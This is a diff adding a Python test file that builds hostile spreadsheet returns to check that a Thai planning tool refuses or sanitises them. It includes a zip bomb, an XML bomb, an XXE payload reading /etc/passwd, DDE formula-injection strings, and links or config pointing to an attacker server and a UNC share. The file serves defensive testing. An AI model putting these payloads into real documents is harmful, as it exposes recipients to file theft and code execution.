@@ -1,0 +1,346 @@
+"""A corpus of hostile and broken returns, made here: each is refused or sanitised with a Thai message, and no file
+that was on disk changes (hashes before and after)."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from opplan_xl import schema
+from opplan_xl.agency.returned import Refusal, ReturnedForm, read_form
+from opplan_xl.cli import main
+from opplan_xl.xlsx.read import read_workbook
+from opplan_xl.xlsx.write import write_workbook
+
+from .agency_helpers import (
+    folder_hashes,
+    issue_and_fill,
+    keyed_plan,
+    merged_rows,
+    rewrite_zip,
+    row,
+    set_defined_name,
+    sheet_part,
+)
+
+Builder = Callable[[Path, Path], Path]  # (folder, a good filled form) → the hostile file
+
+
+def _copy(good: Path, folder: Path, name: str) -> Path:
+    target = folder / name
+    target.write_bytes(good.read_bytes())
+    return target
+
+
+# ---- refused -------------------------------------------------------------------------------------------
+
+
+def wrong_plan(folder: Path, good: Path) -> Path:
+    return issue_and_fill(keyed_plan("another plan's key"), [row("ก")], folder, "wrong-plan.xlsx")
+
+
+def edited_identity(folder: Path, good: Path) -> Path:
+    target = _copy(good, folder, "edited-identity.xlsx")
+    return rewrite_zip(target, lambda parts: set_defined_name(parts, "_OpPlanForm_agency", "กรมที่ไม่ได้รับแบบฟอร์ม"))
+
+
+def deleted_identity(folder: Path, good: Path) -> Path:
+    wb = openpyxl.load_workbook(good)
+    for name in [n for n in wb.defined_names if n.startswith("_OpPlanForm_")]:
+        del wb.defined_names[name]
+    target = folder / "no-identity.xlsx"
+    wb.save(target)
+    return target
+
+
+def zip_bomb(folder: Path, good: Path) -> Path:
+    target = _copy(good, folder, "zip-bomb.xlsx")
+
+    def add(parts: dict[str, bytes]) -> None:
+        parts["xl/media/image1.png"] = b"\0" * (24 * 1024 * 1024)  # deflates about 1000:1
+
+    return rewrite_zip(target, add)
+
+
+def xml_bomb(folder: Path, good: Path) -> Path:
+    target = _copy(good, folder, "xml-bomb.xlsx")
+    lol = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
+    bomb = f'<?xml version="1.0"?><!DOCTYPE Properties [<!ENTITY l0 "lol">{lol}]><Properties>&l9;</Properties>'
+
+    def add(parts: dict[str, bytes]) -> None:
+        parts["docProps/app.xml"] = bomb.encode()
+
+    return rewrite_zip(target, add)
+
+
+def external_entity(folder: Path, good: Path) -> Path:
+    target = _copy(good, folder, "xxe.xlsx")
+    xxe = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><sst>&e;</sst>'
+
+    def add(parts: dict[str, bytes]) -> None:
+        parts["xl/sharedStrings.xml"] = xxe.encode()
+
+    return rewrite_zip(target, add)
+
+
+def encrypted(folder: Path, good: Path) -> Path:
+    target = folder / "encrypted.xlsx"
+    try:
+        from msoffcrypto.format.ooxml import OOXMLFile
+
+        with open(good, "rb") as src:
+            out = io.BytesIO()
+            OOXMLFile(src).encrypt("1234", out)
+        target.write_bytes(out.getvalue())
+    except ImportError:  # a compound file with the streams an encrypted package has
+        from opplan_xl.xlsx.vba.cfb import build_compound_file
+
+        target.write_bytes(
+            build_compound_file({"EncryptionInfo": b"\x04\x00\x04\x00" + b"\0" * 60, "EncryptedPackage": b"\0" * 600})
+        )
+    return target
+
+
+def renamed_exe(folder: Path, good: Path) -> Path:
+    target = folder / "invoice.xlsx"
+    target.write_bytes(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 48 + b"PE\0\0" + b"\x90" * 4096)
+    return target
+
+
+def truncated_zip(folder: Path, good: Path) -> Path:
+    target = folder / "truncated.xlsx"
+    target.write_bytes(good.read_bytes()[:3000])
+    return target
+
+
+def cell_far_away(folder: Path, good: Path) -> Path:
+    target = _copy(good, folder, "extent-bomb.xlsx")
+
+    def far(parts: dict[str, bytes]) -> None:
+        part = sheet_part(parts, schema.SHEET_PROJECTS)
+        xml = parts[part].decode("utf-8")
+        i = xml.index("</sheetData>")
+        cell = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
+        parts[part] = (xml[:i] + cell + xml[i:]).encode("utf-8")
+
+    return rewrite_zip(target, far)
+
+
+def legacy_xls(folder: Path, good: Path) -> Path:
+    from opplan_xl.xlsx.vba.cfb import build_compound_file
+
+    target = folder / "old.xlsx"
+    target.write_bytes(build_compound_file({"Workbook": b"\x09\x08" + b"\0" * 5000}))
+    return target
+
+
+def not_a_form(folder: Path, good: Path) -> Path:
+    target = folder / "someone-elses.xlsx"
+    wb = openpyxl.Workbook()
+    wb.active.append(["โครงการ", "งบประมาณ"])
+    wb.active.append(['=HYPERLINK("http://evil")', 100])
+    wb.save(target)
+    return target
+
+
+REFUSED: dict[str, tuple[Builder, str]] = {
+    "wrong plan": (wrong_plan, "E-FORM-OTHER-PLAN"),
+    "edited identity block": (edited_identity, "E-FORM-IDENTITY-ALTERED"),
+    "identity block deleted": (deleted_identity, "E-FORM-NOT-FORM"),
+    "zip bomb": (zip_bomb, "E-FORM-UNREADABLE"),
+    "XML bomb": (xml_bomb, "E-FORM-UNREADABLE"),
+    "external entity": (external_entity, "E-FORM-UNREADABLE"),
+    "encrypted": (encrypted, "E-FORM-UNREADABLE"),
+    "renamed .exe": (renamed_exe, "E-FORM-UNREADABLE"),
+    "truncated zip": (truncated_zip, "E-FORM-UNREADABLE"),
+    "cell at XFD1048576": (cell_far_away, "E-FORM-UNREADABLE"),
+    "legacy .xls": (legacy_xls, "E-FORM-UNREADABLE"),
+    "not a form": (not_a_form, "E-FORM-NOT-FORM"),
+}
+
+
+# ---- sanitised: merged, with the dangerous part left behind -----------------------------------------
+
+
+DDE = "=cmd|' /C calc'!A0"
+
+
+def formulas_and_dde(folder: Path, good: Path) -> Path:
+    plan = read_workbook(folder.parent / "master.xlsx")[0]
+    rows = [
+        row(DDE, activity="@SUM(1+1)*cmd|'/C calc'!A0", location='=HYPERLINK("http://evil","คลิก")'),
+        row("+cmd|' /C notepad'!A0", dev_plan_ref="-2+3+cmd|' /C calc'!A0"),
+    ]
+    target = issue_and_fill(plan, rows, folder, "formulas.xlsx")
+
+    def formula_cell(parts: dict[str, bytes]) -> None:  # a real formula with a cached value in the budget
+        part = sheet_part(parts, schema.SHEET_PROJECTS)
+        xml = parts[part].decode("utf-8")
+        start = xml.index('<c r="E4"')
+        tag_end = xml.index(">", start)
+        end = tag_end + 1 if xml[tag_end - 1] == "/" else xml.index("</c>", start) + 4
+        cell = "<c r=\"E4\"><f>cmd|'/C calc'!A0*0+1234</f><v>1234</v></c>"
+        parts[part] = (xml[:start] + cell + xml[end:]).encode("utf-8")
+
+    return rewrite_zip(target, formula_cell)
+
+
+def external_links(folder: Path, good: Path) -> Path:
+    target = _copy(good, folder, "links.xlsx")
+    ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+    def add(parts: dict[str, bytes]) -> None:
+        parts["xl/externalLinks/externalLink1.xml"] = (
+            b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
+            b'spreadsheetml/2006/main" xmlns:r="' + ns.encode() + b'"><externalBook r:id="rId1"><sheetNames>'
+            b'<sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
+        )
+        parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
+            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+            b'package/2006/relationships"><Relationship Id="rId1" Type="' + ns.encode() + b'/externalLinkPath" '
+            b'Target="file:///\\\\evil-server\\share\\steal.xlsx" TargetMode="External"/></Relationships>'
+        )
+        parts["xl/connections.xml"] = (
+            b'<?xml version="1.0" encoding="UTF-8"?><connections xmlns="http://schemas.openxmlformats.org/'
+            b'spreadsheetml/2006/main"><connection id="1" name="web" type="4" refreshOnLoad="1">'
+            b'<webPr url="http://evil.example/x"/></connection></connections>'
+        )
+        rels = parts["xl/_rels/workbook.xml.rels"].decode()
+        rels = rels.replace(
+            "</Relationships>",
+            f'<Relationship Id="rIdX1" Type="{ns}/externalLink" Target="externalLinks/externalLink1.xml"/>'
+            f'<Relationship Id="rIdX2" Type="{ns}/connections" Target="connections.xml"/></Relationships>',
+        )
+        parts["xl/_rels/workbook.xml.rels"] = rels.encode()
+        wb = parts["xl/workbook.xml"].decode()
+        i = wb.index("<definedNames>") if "<definedNames>" in wb else wb.index("<calcPr")
+        ref = f'<externalReferences><externalReference xmlns:r="{ns}" r:id="rIdX1"/></externalReferences>'
+        wb = wb[:i] + ref + wb[i:]
+        parts["xl/workbook.xml"] = wb.encode()
+        ct = parts["[Content_Types].xml"].decode()
+        ct = ct.replace(
+            "</Types>",
+            '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
+            'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
+            '<Override PartName="/xl/connections.xml" ContentType="application/'
+            'vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>',
+        )
+        parts["[Content_Types].xml"] = ct.encode()
+
+    return rewrite_zip(target, add)
+
+
+def macros(folder: Path, good: Path) -> Path:
+    target = _copy(good, folder, "macros.xlsx")
+
+    def add(parts: dict[str, bytes]) -> None:
+        from opplan_xl.xlsx.vba.cfb import build_compound_file
+
+        parts["xl/vbaProject.bin"] = build_compound_file({"VBA": {"dir": b"\x01" * 64}, "PROJECT": b'ID="{x}"'})
+        parts["xl/embeddings/oleObject1.bin"] = b"\0" * 128
+
+    return rewrite_zip(target, add)
+
+
+def xlwings_conf(folder: Path, good: Path) -> Path:
+    wb = openpyxl.load_workbook(good)
+    ws = wb.create_sheet("xlwings.conf")
+    ws.append(["INTERPRETER_WIN", r"\\evil-server\share\python.exe"])
+    ws.append(["PYTHONPATH", r"\\evil-server\share"])
+    target = folder / "conf.xlsx"
+    wb.save(target)
+    return target
+
+
+SANITISED: dict[str, tuple[Builder, set[str]]] = {
+    "formulas and DDE strings": (formulas_and_dde, {"W-FORM-FORMULA-TEXT"}),
+    "external links and a web connection": (external_links, {"I-FORM-LINKS-IGNORED"}),
+    "macros and an embedded object": (macros, {"I-FORM-MACROS-IGNORED", "I-FORM-OBJECTS-IGNORED"}),
+    "an xlwings.conf sheet": (xlwings_conf, {"I-FORM-XLWINGS-CONF-IGNORED"}),
+}
+
+
+# ---- the tests -------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def setup(tmp_path: Path) -> tuple[Path, Path, Path]:
+    """The master workbook (with a key), a folder of returns, and one good return."""
+    book = write_workbook(keyed_plan(), tmp_path / "master.xlsx")
+    folder = tmp_path / "inbox"
+    good = issue_and_fill(read_workbook(book)[0], [row("โครงการดี", "5000")], folder, "good.xlsx")
+    return book, folder, good
+
+
+@pytest.mark.parametrize("case", list(REFUSED))
+def test_hostile_return_is_refused_in_thai_and_nothing_on_disk_changes(setup, case: str, capsys) -> None:
+    book, folder, good = setup
+    build, code = REFUSED[case]
+    hostile = build(folder, good)
+    root = book.parent
+    before = folder_hashes(root)
+
+    got = read_form(hostile, read_workbook(book)[0])
+    assert isinstance(got, Refusal), (case, got)
+    assert [f.code for f in got.findings] == [code], got.findings
+    message = got.findings[0].message
+    assert message.startswith(f"ไม่รับไฟล์ {hostile.name}") and any("\u0e00" <= ch <= "\u0e7f" for ch in message)
+
+    out = root / "out.xlsx"
+    assert main(["merge", str(book), str(hostile), "-o", str(out)]) == 2
+    printed = capsys.readouterr().out
+    assert f"ไม่รับไฟล์ {hostile.name}" in printed
+    assert not out.exists()
+    assert folder_hashes(root) == before
+
+
+@pytest.mark.parametrize("case", list(SANITISED))
+def test_hostile_content_is_left_behind_and_said(setup, case: str, capsys) -> None:
+    book, folder, good = setup
+    build, codes = SANITISED[case]
+    hostile = build(folder, good)
+    root = book.parent
+    before = folder_hashes(root)
+
+    got = read_form(hostile, read_workbook(book)[0])
+    assert isinstance(got, ReturnedForm), (case, getattr(got, "findings", None))
+    found = {f.code for f in (*got.notes, *got.findings)}
+    assert codes <= found, found
+
+    out = root / "out.xlsx"
+    assert main(["merge", str(book), str(hostile), "-o", str(out)]) in (0, 1)
+    printed = capsys.readouterr().out
+    assert any(f.message in printed for f in got.notes + got.findings if f.code in codes)
+    after = folder_hashes(root)
+    assert {k: after[k] for k in before} == before
+    assert set(after) - set(before) == {"out.xlsx"}
+
+    with zipfile.ZipFile(out) as z:
+        names = [n.lower() for n in z.namelist()]
+    assert not [n for n in names if "vba" in n or "externallink" in n or "connections" in n or "embeddings" in n]
+    wb = openpyxl.load_workbook(out)
+    assert "xlwings.conf" not in wb.sheetnames
+    formulas = [
+        c.coordinate
+        for r in wb[schema.SHEET_PROJECTS].iter_rows(min_row=schema.PROJECTS.header_row + 1)
+        for c in r
+        if c.data_type == "f"
+    ]
+    assert formulas == []
+    merged = merged_rows(read_workbook(out)[0])
+    assert merged and all(p.origin_agency for p in merged)
+
+
+def test_dde_strings_arrive_as_the_text_that_was_typed(setup) -> None:
+    book, folder, good = setup
+    got = read_form(formulas_and_dde(folder, good), read_workbook(book)[0])
+    assert isinstance(got, ReturnedForm)
+    first, second = got.projects
+    assert first.name == DDE and first.location == '=HYPERLINK("http://evil","คลิก")'
+    assert second.name == "+cmd|' /C notepad'!A0"
+    assert str(first.budget) == "1234.00"  # the formula's cached value, never the formula
